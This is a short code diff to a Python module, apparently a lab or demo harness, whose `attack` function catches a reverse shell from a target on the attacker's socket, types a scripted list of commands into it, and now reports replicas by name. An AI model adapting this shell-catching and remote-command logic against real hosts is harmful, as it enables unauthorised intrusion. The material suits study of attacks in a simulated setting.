@@ -8,7 +8,7 @@ import contextlib
 import socket
 import threading
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 from contextlib import AbstractContextManager
 from typing import Protocol
 
@@ -41,8 +41,10 @@ class Network(Protocol):
         """Wait for connections under an address that nobody else has."""
 
 
-def attack(network: Network, target: str, tell: Callable[[str], None]) -> str:
-    """Break into whoever answers at an address, step by step; return the address of who did when the attacker has left.
+def attack(network: Network, target: str, names: Mapping[str, str], tell: Callable[[str], None]) -> str:
+    """Break into whoever answers at an address, step by step; return the name of who did when the attacker has left.
+
+    `names` are the replicas' by address.
 
     Raises:
         AttackError: no shell came back, or a step gave no answer.
@@ -57,14 +59,15 @@ def attack(network: Network, target: str, tell: Callable[[str], None]) -> str:
         except OSError as error:
             raise AttackError(f"no shell came back from {target}: {error}") from None
         with shell:
-            tell(f"a shell of {address} is on the attacker's socket {ADDRESS}:{PORT}")
+            name = names[address]
+            tell(f"a shell of {name} ({address}) is on the attacker's socket {ADDRESS}:{PORT}")
             shell.settimeout(5)
             for command, meaning in STEPS:
                 time.sleep(TYPING_S)
                 tell(f"$ {command}   # {meaning}: {_type(shell, command)}")
             shell.sendall(b"exit\n")
         request.join(10)
-        return str(address)
+        return name
 
 
 def _request(network: Network, target: str) -> None:
